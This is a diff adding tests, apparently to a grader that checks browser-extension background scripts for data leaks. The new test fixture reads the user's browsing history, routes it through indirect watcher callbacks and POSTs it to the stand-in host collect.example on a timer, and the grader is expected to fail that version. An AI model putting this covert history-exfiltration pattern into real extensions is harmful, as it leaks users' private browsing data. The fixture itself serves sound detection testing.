@@ -45,3 +45,15 @@ it('what a wrapped function answers', async () => {
   expect(await graded({ background: answered('tab.url'), manifest: { permissions: ['tabs'] } })).toBe('F');
   expect(await graded({ background: answered("'1'"), manifest: { permissions: ['tabs'] } })).toMatch(/^A/);
 });
+
+it.each([
+  'h(p).then((x) => told.forEach((one) => one(x)));',
+  'const r = h(p); r.then((x) => told.forEach((one) => one(x))); return r;',
+  'const tell = (x) => told.forEach((one) => one(x)); (async () => { const x = await h(p); tell(x); })();',
+])('what a wrapped function answers is told to others, as the effects of stores do: %s', async (body) => {
+  const effect = (read: string): string =>
+    `function effect(h) { const told = []; const fx = (p) => { ${body} }; fx.watch = (f) => told.push(f); return fx; } const read = effect(async (text) => ${read}); read.watch((l) => fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(l) })); chrome.alarms.onAlarm.addListener(() => read(''));`;
+  const asked = { permissions: ['history', 'alarms'] };
+  expect(await graded({ background: effect('chrome.history.search({ text })'), manifest: asked })).toBe('F');
+  expect(await graded({ background: effect('text.length'), manifest: asked })).toMatch(/^A/);
+});
